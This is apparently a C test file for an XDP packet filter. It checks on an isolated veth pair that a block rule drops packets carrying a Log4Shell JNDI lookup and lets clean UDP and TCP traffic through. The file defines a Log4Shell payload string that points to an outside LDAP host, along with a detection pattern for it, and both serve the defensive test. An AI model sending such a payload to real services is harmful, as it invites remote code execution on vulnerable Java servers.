// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * ks_xdp_main live on a veth pair: two private network namespaces, XDP on
 * the receiving end (attached with loader/xdp.c, native mode), UDP and TCP
 * traffic from the other end. A payload a `block` rule matches never
 * reaches the receiving socket; clean traffic does; the counters and the
 * forwarded events say so. Nothing touches the host's own interfaces.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <linux/if_link.h>

#include "kestrel/xdp.h"
#include "netns.h"
#include "test_progs.h"
#include "testutil.h"

#define ADDR_A		"10.201.0.1"	/* receiver, XDP attached here */
#define ADDR_B		"10.201.0.2"	/* sender */
#define UDP_PORT	9000
#define TCP_PORT	9001
#define WAIT_MS		400

static const char *veth_rules =
	"- rule: log4shell_payload\n"
	"  name: Log4Shell JNDI lookup in packet\n"
	"  severity: critical\n"
	"  action: block\n"
	"  query: |\n"
	"    network where event.action == \"packet\" and payload : \"*${jndi:*\"\n";

#define EVIL	"GET /?q=${jndi:ldap://203.0.113.5/x} HTTP/1.1\r\n\r\n"

static int sock_in(int ns, int type, const char *addr, int port, bool bind_it)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd, one = 1;

	if (ks_netns_enter(ns))
		return -1;
	fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	inet_pton(AF_INET, addr, &sa.sin_addr);
	if (bind_it && bind(fd, (struct sockaddr *)&sa, sizeof(sa))) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Bytes readable on fd within WAIT_MS, copied to buf (0 when nothing came). */
static ssize_t recv_wait(int fd, char *buf, size_t len, int ms)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	ssize_t n;

	if (poll(&p, 1, ms) <= 0)
		return 0;
	n = recv(fd, buf, len - 1, MSG_DONTWAIT);
	if (n < 0)
		return 0;
	buf[n] = 0;
	return n;
}

static int udp_send(int fd, const char *msg)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(UDP_PORT) };

	inet_pton(AF_INET, ADDR_A, &to.sin_addr);
	return sendto(fd, msg, strlen(msg), 0, (struct sockaddr *)&to, sizeof(to)) < 0 ? -errno : 0;
}

static __u32 xdp_prog_on(int ns, int ifindex)
{
	LIBBPF_OPTS(bpf_xdp_query_opts, q);

	if (ks_netns_enter(ns) || bpf_xdp_query(ifindex, 0, &q))
		return 0;
	return q.prog_id;
}

/* Forwarded events of the block rule for (transport, dport). */
static int matched(struct ks_tenv *te, int rule, int transport, int dport,
		   const struct ks_veth *v, bool check_fields)
{
	char buf[KS_IFNAME_MAX + 1];
	size_t i;
	int n = 0;

	for (i = 0; i < te->n; i++) {
		const struct ks_event *ev = &te->evs[i];

		if (ev->transport != transport || ev->dport != dport ||
		    !ks_tenv_matched(te, ev, rule, true))
			continue;
		n++;
		if (!check_fields || n > 1)
			continue;
		ASSERT_TRUE(ev->verdict.flags & KS_V_DENIED, "denied");
		ASSERT_EQ(ev->ifindex, v->ifindex_a, "ifindex");
		ASSERT_STREQ(ks_tenv_str(ev, KS_F_IFACE_NAME, buf, sizeof(buf)), v->if_a,
			     "observer.ingress.interface.name (ks_xdp_ifnames)");
		ASSERT_EQ(ev->saddr[15], 2, "source.ip 10.201.0.2");
		ASSERT_EQ(ev->daddr[15], 1, "destination.ip 10.201.0.1");
		ASSERT_EQ(ev->direction, 1, "ingress");
	}
	return n;
}

/* UDP: clean, malicious, clean; only the malicious datagram is dropped. */
static void check_udp(int utx, int urx)
{
	char buf[512];

	ASSERT_OK(udp_send(utx, "hello kestrel"), "send clean");
	ASSERT_GT(recv_wait(urx, buf, sizeof(buf), 2000), 0, "clean datagram arrives");
	ASSERT_STREQ(buf, "hello kestrel", "clean datagram");
	ASSERT_OK(udp_send(utx, EVIL), "send evil");
	ASSERT_EQ(recv_wait(urx, buf, sizeof(buf), WAIT_MS), 0, "evil datagram is dropped");
	ASSERT_OK(udp_send(utx, "after"), "send clean 2");
	ASSERT_GT(recv_wait(urx, buf, sizeof(buf), 2000), 0, "clean datagram after");
	ASSERT_STREQ(buf, "after", "only the clean datagram");
}

/* The XDP counters since s0: drops forwarded, clean packets filtered, the identity. */
static void check_counts(struct ks_tenv *te, const struct ks_stats *s0)
{
	struct ks_stats s1;
	__u64 drops;

	if (!ASSERT_OK(ks_tenv_stats(te, &s1), "stats"))
		return;
	drops = s1.packets_drop - s0->packets_drop;
	test__log("xdp: events %llu filtered %llu forwarded %llu packets pass %llu drop %llu\n",
		  (unsigned long long)(s1.events[KS_SRC_XDP] - s0->events[KS_SRC_XDP]),
		  (unsigned long long)(s1.filtered[KS_SRC_XDP] - s0->filtered[KS_SRC_XDP]),
		  (unsigned long long)(s1.forwarded[KS_SRC_XDP] - s0->forwarded[KS_SRC_XDP]),
		  (unsigned long long)(s1.packets_pass - s0->packets_pass),
		  (unsigned long long)drops);
	ASSERT_GE(drops, 2, "packets_drop (udp + tcp)");
	ASSERT_GE(s1.forwarded[KS_SRC_XDP] - s0->forwarded[KS_SRC_XDP], drops,
		  "every drop forwarded");
	/* clean datagrams, handshake, clean segment, ARP */
	ASSERT_GE(s1.filtered[KS_SRC_XDP] - s0->filtered[KS_SRC_XDP], 5, "filtered");
	ASSERT_GE(s1.packets_pass - s0->packets_pass, 5, "packets_pass");
	ASSERT_EQ(s1.events[KS_SRC_XDP],
		  s1.filtered[KS_SRC_XDP] + s1.forwarded[KS_SRC_XDP] +
		  s1.dropped[KS_SRC_XDP][KS_DROP_RINGBUF_FULL] +
		  s1.dropped[KS_SRC_XDP][KS_DROP_MAP_FULL] +
		  s1.dropped[KS_SRC_XDP][KS_DROP_NO_TABLES] +
		  s1.dropped[KS_SRC_XDP][KS_DROP_REENTRANT] +
		  s1.dropped[KS_SRC_XDP][KS_DROP_PARSE], "accounting identity");
}

static void test_traffic(struct ks_veth *v)
{
	struct ks_engine_opts o = { .mode = KS_MODE_SIGNAL, .xdp = true, .no_host = true };
	int urx = -1, utx = -1, lst = -1, ctx_fd = -1, acc = -1, rule;
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(TCP_PORT) };
	struct ks_xdp_att att = {};
	struct ks_stats s0;
	struct ks_tenv te = {};
	char buf[512];

	if (!ASSERT_OK(ks_tenv_compile(&te, veth_rules), "compile") ||
	    !ASSERT_OK(ks_tenv_load(&te, &o), "load"))
		goto out;
	rule = ks_tenv_rule(&te, "log4shell_payload");

	/* attach inside namespace a; veth has native XDP */
	if (!ASSERT_OK(ks_netns_enter(v->ns_a), "enter a") ||
	    !ASSERT_OK(ks_xdp_attach_one(&te.e, v->if_a, KS_XDP_MODE_NATIVE, &att), "attach"))
		goto out;
	test__log("attached to %s (ifindex %d) in %s mode, prog id %u%s\n", att.ifname,
		  att.ifindex, ks_xdp_mode_name(att.mode), att.prog_id,
		  att.multiprog ? " via the libxdp dispatcher" : "");
	ASSERT_EQ(xdp_prog_on(v->ns_a, v->ifindex_a), att.prog_id, "attached prog id");

	urx = sock_in(v->ns_a, SOCK_DGRAM, ADDR_A, UDP_PORT, true);
	lst = sock_in(v->ns_a, SOCK_STREAM, ADDR_A, TCP_PORT, true);
	utx = sock_in(v->ns_b, SOCK_DGRAM, ADDR_B, 0, true);
	ctx_fd = sock_in(v->ns_b, SOCK_STREAM, ADDR_B, 0, false);
	ks_netns_enter(v->ns_host);
	if (!ASSERT_GE(urx, 0, "udp rx") || !ASSERT_GE(utx, 0, "udp tx") ||
	    !ASSERT_GE(lst, 0, "tcp listen") || !ASSERT_GE(ctx_fd, 0, "tcp socket") ||
	    !ASSERT_OK(listen(lst, 4), "listen"))
		goto out;
	if (!ASSERT_OK(ks_tenv_stats(&te, &s0), "stats"))
		goto out;

	check_udp(utx, urx);

	/* TCP: the handshake and clean data pass, the malicious segment never arrives */
	inet_pton(AF_INET, ADDR_A, &sa.sin_addr);
	if (!ASSERT_OK(connect(ctx_fd, (struct sockaddr *)&sa, sizeof(sa)), "connect"))
		goto out;
	{
		struct pollfd p = { .fd = lst, .events = POLLIN };

		if (ASSERT_GT(poll(&p, 1, 2000), 0, "accept ready"))
			acc = accept(lst, NULL, NULL);
	}
	if (!ASSERT_GE(acc, 0, "accept"))
		goto out;
	ASSERT_EQ(send(ctx_fd, "ping", 4, 0), 4, "tcp send clean");
	ASSERT_EQ(recv_wait(acc, buf, sizeof(buf), 2000), 4, "clean segment arrives");
	ASSERT_EQ(send(ctx_fd, EVIL, strlen(EVIL), 0), (long)strlen(EVIL), "tcp send evil");
	/* dropped again at each retransmission */
	ASSERT_EQ(recv_wait(acc, buf, sizeof(buf), WAIT_MS * 2), 0, "evil segment is dropped");

	ks_tenv_drain(&te, 100);
	check_counts(&te, &s0);
	ASSERT_EQ(matched(&te, rule, IPPROTO_UDP, UDP_PORT, v, true), 1, "udp block event");
	ASSERT_GE(matched(&te, rule, IPPROTO_TCP, TCP_PORT, v, true), 1, "tcp block events");

	ks_netns_enter(v->ns_a);	/* ifindex means something only there */
	ASSERT_OK(ks_xdp_detach_one(&att), "detach");
	ASSERT_EQ(xdp_prog_on(v->ns_a, v->ifindex_a), 0, "nothing attached after detach");
	ks_netns_enter(v->ns_host);
	ASSERT_OK(udp_send(utx, EVIL), "send evil, detached");
	ASSERT_GT(recv_wait(urx, buf, sizeof(buf), 2000), 0, "passes once detached");
out:
	if (att.prog) {
		ks_netns_enter(v->ns_a);
		ks_xdp_detach_one(&att);
	}
	ks_netns_enter(v->ns_host);
	for (int *fd = (int[]){ urx, utx, lst, ctx_fd, acc }, i = 0; i < 5; i++)
		if (fd[i] >= 0)
			close(fd[i]);
	ks_tenv_close(&te);
}

/* `kload attach` pins, `kload detach` detaches through the pins alone. */
static void test_pinned(struct ks_veth *v)
{
	struct ks_engine_opts o = { .mode = KS_MODE_SIGNAL, .xdp = true, .no_host = true };
	struct ks_xdp_set *xs = NULL;
	struct ks_tenv te = {};
	char dir[64];

	snprintf(dir, sizeof(dir), "/sys/fs/bpf/kestrel-test-%d", (int)getpid());
	if (!ASSERT_OK(ks_tenv_compile(&te, veth_rules), "compile") ||
	    !ASSERT_OK(ks_tenv_load(&te, &o), "load"))
		goto out;
	if (mkdir(dir, 0700) && errno != EEXIST) {
		test__skip("cannot create %s: %s", dir, strerror(errno));
		goto out;
	}
	xs = ks_xdp_set_new(&te.e);
	if (!ASSERT_OK_PTR(xs, "set") || !ASSERT_OK(ks_netns_enter(v->ns_a), "enter a") ||
	    !ASSERT_OK(ks_xdp_attach(xs, v->if_a), "attach") ||
	    !ASSERT_OK(ks_xdp_attach(xs, v->if_a), "attach twice is a no-op"))
		goto out;
	ASSERT_EQ(ks_xdp_set_count(xs), 1, "one attachment");
	ASSERT_OK(ks_xdp_pin(xs, dir), "pin");
	/* kload exits leaving the program attached */
	ks_xdp_set_free(xs, false);
	xs = NULL;
	ks_tenv_close(&te);
	ASSERT_NEQ(xdp_prog_on(v->ns_a, v->ifindex_a), 0, "still attached after exit");

	/* kload detach (in the namespace of the interface) */
	ks_netns_enter(v->ns_a);
	ASSERT_EQ(ks_xdp_detach_pinned(dir), 1, "detach_pinned");
	ASSERT_EQ(xdp_prog_on(v->ns_a, v->ifindex_a), 0, "detached");
	ks_netns_enter(v->ns_a);
	ASSERT_EQ(ks_xdp_detach_pinned(dir), 0, "nothing left");
out:
	ks_netns_enter(v->ns_a);
	ks_xdp_set_free(xs, true);
	ks_netns_enter(v->ns_host);
	ks_pins_remove(dir);
	ks_tenv_close(&te);
}

void test_xdp_veth(void)
{
	struct ks_veth v;

	if (geteuid() != 0) {
		test__skip("needs root for network namespaces and XDP");
		return;
	}
	if (ks_veth_create(&v, ADDR_A, ADDR_B, 24)) {
		test__skip("%s", v.why);
		return;
	}
	if (test__start_subtest("traffic"))
		test_traffic(&v);
	if (test__start_subtest("pinned"))
		test_pinned(&v);
	ks_veth_destroy(&v);
}
